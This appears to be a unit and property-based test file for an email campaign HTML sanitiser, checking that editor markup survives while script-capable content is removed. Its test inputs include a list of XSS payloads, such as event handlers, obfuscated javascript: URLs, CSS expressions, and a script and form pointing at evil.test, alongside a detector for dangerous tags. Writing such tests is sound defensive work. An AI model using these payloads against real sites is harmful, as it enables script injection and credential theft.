import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import type { ChildNode, Element } from 'domhandler';
import { emailSafeHtml, sanitizeCampaignHtml, sanitizeTemplateLayout } from './campaign-html';

const COLOURS = { brandColor: '#4f46e5', textColor: '#1f2937' };

/** What the campaign editor makes, as its HTML serializer writes it. */
const EDITOR_OUTPUT = [
  '<h1>Spring packages</h1>',
  '<h2>For {{firstName}}</h2>',
  '<p>Dear {{firstName}} {{lastName}}, <strong>ten visuals</strong> and <em>two videos</em>.</p>',
  '<ul><li><p>Meta Ads</p></li><li><p>SEO</p></li></ul>',
  '<ol><li><p>Plan</p></li><li><p>Publish</p></li></ol>',
  '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://agency.tn/packs">See the packs</a></p>',
  '<img src="https://agency.tn/spring.png" alt="Spring">',
  '<table data-button=""><tbody><tr><td data-button=""><a data-button="" href="https://agency.tn/book">Book a call</a></td></tr></tbody></table>',
  '<hr>',
  '<p><a href="{{unsubscribeUrl}}">Unsubscribe</a> · {{senderName}}</p>',
].join('');

const elementsOf = (html: string): Element[] => {
  const found: Element[] = [];
  const visit = (nodes: ChildNode[]) => {
    for (const node of nodes) {
      if (node.type === 'tag' || node.type === 'script' || node.type === 'style') {
        found.push(node as Element);
        visit((node as Element).children);
      }
    }
  };
  visit(parseDocument(html).children);
  return found;
};

/** What a browser or mail client takes for a URL's scheme once it has dropped spaces and controls. */
function schemeOf(link: string): string {
  // eslint-disable-next-line no-control-regex -- the characters a URL parser drops are the point
  const cleaned = link.replace(/^[\u0000-\u0020]+/, '').replace(/[\t\n\r]/g, '');
  return /^([a-z][a-z0-9+.-]*):/i.exec(cleaned)?.[1]?.toLowerCase() ?? '';
}

const SCRIPT_TAGS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'base',
  'meta',
  'link',
  'svg',
  'math',
  'template',
]);
const URL_ATTRIBUTES =
  /^(href|src|srcset|action|formaction|background|poster|cite|longdesc|xlink:href|data)$/i;

/** Everything in `html` that could run script or submit anything: empty when it is safe. */
function scriptCapable(html: string): string[] {
  const problems: string[] = [];
  for (const element of elementsOf(html)) {
    if (SCRIPT_TAGS.has(element.name.toLowerCase())) problems.push(`<${element.name}>`);
    for (const [name, value] of Object.entries(element.attribs)) {
      if (/^on/i.test(name)) problems.push(`${name}=`);
      if (URL_ATTRIBUTES.test(name) && !['', 'http', 'https', 'mailto'].includes(schemeOf(value))) {
        problems.push(`${name}=${value}`);
      }
      if (name === 'style' && /url\s*\(|expression|javascript|@import|behavior/i.test(value)) {
        problems.push(`style=${value}`);
      }
    }
  }
  return problems;
}

describe('the campaign sanitiser', () => {
  it('keeps what the editor makes', () => {
    const kept = sanitizeCampaignHtml(EDITOR_OUTPUT);
    for (const piece of [
      '<h1>Spring packages</h1>',
      '<h2>For {{firstName}}</h2>',
      '<strong>ten visuals</strong>',
      '<em>two videos</em>',
      '<ul><li><p>Meta Ads</p></li>',
      '<ol><li><p>Plan</p></li>',
      'href="https://agency.tn/packs"',
      '<img src="https://agency.tn/spring.png" alt="Spring" />',
      '<table data-button><tbody><tr><td data-button><a data-button href="https://agency.tn/book"',
      '<hr />',
      'href="{{unsubscribeUrl}}"',
      '{{senderName}}',
    ]) {
      expect(kept).toContain(piece);
    }
  });

  it('drops scripts, event handlers, javascript: URLs, forms and iframes', () => {
    const kept = sanitizeCampaignHtml(
      '<p onclick="steal()" onmouseover="x()">Hi</p><script>alert(1)</script>' +
        '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>' +
        '<form action="https://evil.test"><input name="card"><button>Pay</button></form>' +
        '<iframe src="https://evil.test"></iframe><img src="x" onerror="alert(1)">' +
        '<p style="background:url(javascript:alert(1));color:red">z</p><style>p{}</style>',
    );
    expect(kept).not.toMatch(
      /script|onclick|onmouseover|onerror|<form|<input|<button|<iframe|<style|url\(/i,
    );
    expect(kept).toContain('<p>Hi</p>');
    expect(kept).toContain('<p style="color:red">z</p>');
    expect(scriptCapable(kept)).toEqual([]);
  });

  it('keeps a layout whose inline styles name the template colours', () => {
    const layout = sanitizeTemplateLayout(
      '<table style="background-color:{{brandColor}}"><tr><td style="color: {{ textColor }};padding:24px" onclick="x()">{{header}}</td></tr></table>{{content}}<script>x</script>',
    );
    expect(layout).toContain('style="background-color:{{brandColor}}"');
    expect(layout).toContain('style="color:{{textColor}};padding:24px"');
    expect(layout).toContain('{{content}}');
    expect(layout).not.toMatch(/onclick|script/);
  });

  it('styles each element inline for mail clients, a button as a coloured cell', () => {
    const html = emailSafeHtml(EDITOR_OUTPUT, COLOURS);
    expect(html).toMatch(/<h2 style="[^"]*color:#4f46e5[^"]*">/);
    expect(html).toMatch(/<td data-button bgcolor="#4f46e5" style="[^"]*background-color:#4f46e5/);
    expect(html).toMatch(
      /<a data-button href="https:\/\/agency.tn\/book" rel="noopener noreferrer" style="[^"]*color:#ffffff/,
    );
    expect(html).toMatch(
      /<img src="https:\/\/agency.tn\/spring.png" alt="Spring" style="[^"]*max-width:100%/,
    );
    expect(scriptCapable(html)).toEqual([]);
  });

  /**
   * Whatever is pasted into the source view (bits of hostile markup mixed
   * with anything at all), neither the stored HTML nor the mail built from it
   * holds a thing that runs script.
   */
  it('never yields script-capable output, whatever the input', () => {
    const hostile = fc.constantFrom(
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
      '<img src=x onerror=alert(1)>',
      '<img src="jav&#x09;ascript:alert(1)">',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="  javascript:alert(1)">x</a>',
      '<a href="java\nscript:alert(1)">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '<svg onload=alert(1)>',
      '<math><mtext><script>x</script></mtext></math>',
      '<iframe src="https://evil.test"></iframe>',
      '<form action="https://evil.test"><input type=submit></form>',
      '<object data="x.swf"></object><embed src="x.swf">',
      '<p style="background:url(javascript:alert(1))">x</p>',
      '<p style="width:expression(alert(1))">x</p>',
      '<div style="behavior:url(x.htc)">x</div>',
      '<style>@import "https://evil.test/x.css";</style>',
      '<base href="javascript:alert(1)//">',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
      '<a href="https://ok.test" onmouseover="alert(1)">ok</a>',
      '<!--<script>alert(1)</script>-->',
      '<<script>script>alert(1)<</script>/script>',
      '<td data-button="" onclick="x()"><a data-button="" href="javascript:x()">b</a></td>',
      '"><script>alert(1)</script>',
      "'><img src=x onerror=alert(1)>",
    );
    const benign = fc.constantFrom(
      '<p>',
      '</p>',
      '<h1>',
      '<a href="https://agency.tn">',
      '</a>',
      '<strong>',
      '{{firstName}}',
      '<hr>',
      '<ul><li>',
      '<table><tr><td style="color:red">',
      '</td></tr></table>',
      '<',
      '>',
      '"',
      "'",
      '=',
    );
    const piece = fc.oneof(hostile, benign, fc.string({ maxLength: 12 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const input = pieces.join('');
        const stored = sanitizeCampaignHtml(input);
        expect(scriptCapable(stored)).toEqual([]);
        expect(scriptCapable(emailSafeHtml(input, COLOURS))).toEqual([]);
        expect(scriptCapable(sanitizeTemplateLayout(`${input}{{content}}`))).toEqual([]);
      }),
      { numRuns: 1500 },
    );
  });
});
